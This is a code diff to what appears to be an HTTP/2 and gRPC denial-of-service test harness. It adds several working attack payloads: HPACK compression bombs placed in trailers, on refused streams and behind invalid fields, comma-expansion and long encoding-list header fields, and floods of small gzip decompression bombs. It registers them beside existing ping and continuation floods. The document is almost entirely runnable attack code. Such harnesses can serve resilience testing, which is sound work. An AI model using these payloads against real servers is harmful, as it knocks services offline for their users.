@@ -11,6 +11,7 @@ import struct
 import sys
 import threading
 import time
+import zlib
 
 import hpack
 
@@ -145,6 +146,67 @@ def hpack_bomb():
     ), opening=WITHOUT_CREDIT)
 
 
+BOMB = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000
+
+
+def hpack_bomb_in_trailers():
+    """The same in fields that nobody reads: the trailers of a request."""
+    head = request("Get")
+    return Attack(batches(
+        frame(HEADERS, stream, head + (BOMB if stream == 1 else b""), END_HEADERS)
+        + frame(HEADERS, stream, b"\xbe" * 16_000, END_HEADERS | END_STREAM) for stream in range(1, 2000, 2)
+    ))
+
+
+def hpack_bomb_refused():
+    """The same on streams that are refused, for there are as many as there may be."""
+    opened = b"".join(frame(HEADERS, stream, request("Sink"), END_HEADERS) for stream in range(1, 200, 2))
+    head = request("Get")
+    return Attack([opened] + batches(
+        frame(HEADERS, stream, head + (BOMB if stream == 201 else b"\xbe" * 16_000), END_HEADERS | END_STREAM)
+        for stream in range(201, 2201, 2)
+    ))
+
+
+def hpack_bomb_invalid(entry, first=b""):
+    """The same where a field has the stream reset: one in front, or each."""
+    return Attack(batches(
+        frame(HEADERS, stream, request("Get") + first + (entry if stream == 1 else b"") + b"\xbe" * 12_000,
+              END_HEADERS | END_STREAM) for stream in range(1, 4000, 2)
+    ))
+
+
+def commas():
+    """A value of commas is as many values, each of which has the name."""
+    name, value = b"n" * 1900 + b"-bin", b"," * 2000
+    field = (b"\x40" + hpack.hpack.encode_integer(len(name), 7) + name
+             + hpack.hpack.encode_integer(len(value), 7) + value)
+    return Attack(batches(
+        frame(HEADERS, stream, request("Sink") + (field if stream == 1 else b"\xbe" * (1 + stream % 2)), END_HEADERS)
+        for stream in streams()
+    ))
+
+
+def encodings():
+    """A list of encodings that is long, with a field that makes each head new."""
+    value = b"a," * 1990
+    field = (b"\x40" + hpack.hpack.encode_integer(20, 7) + b"grpc-accept-encoding"
+             + hpack.hpack.encode_integer(len(value), 7) + value)
+    return Attack(batches(
+        call(stream, request("SynchronousGet", [("x-n", str(stream))]) + (field if stream == 1 else b"\xbe"))
+        for stream in streams()
+    ))
+
+
+def small_decompression_bombs():
+    """Each message is small enough to be inflated at once, and there are many."""
+    bomb = message(zlib.compress(bytes(120 * 1024), 9, 31), 1)
+    opening = USUAL + [frame(HEADERS, stream, request("Sink", [("grpc-encoding", "gzip")]), END_HEADERS)
+                       for stream in range(1, 41, 2)]
+    return Attack([b"".join(frame(DATA, stream, bomb * 50) for stream in range(1, 41, 2))], opening=opening,
+                  repeats=True, pause=0.01)
+
+
 def ping_flood(reads):
     """CVE-2019-9512: each wants an answer."""
     return Attack([frame(PING, payload=b"12345678") * 4000], repeats=True, reads=reads)
@@ -250,6 +312,13 @@ ATTACKS = {
     "continuation-flood": continuation_flood,
     "slow-head": slow_head,
     "hpack-bomb": hpack_bomb,
+    "hpack-bomb-in-trailers": hpack_bomb_in_trailers,
+    "hpack-bomb-refused": hpack_bomb_refused,
+    "hpack-bomb-behind-an-invalid-field": lambda: hpack_bomb_invalid(BOMB, b"\x00\x01b\x01\x00"),
+    "hpack-bomb-of-invalid-fields": lambda: hpack_bomb_invalid(BOMB[:-1] + b"\x00"),
+    "commas": commas,
+    "encodings": encodings,
+    "small-decompression-bombs": small_decompression_bombs,
     "ping-flood": lambda: ping_flood(True),
     "ping-flood-unread": lambda: ping_flood(False),
     "settings-flood": lambda: settings_flood(True),
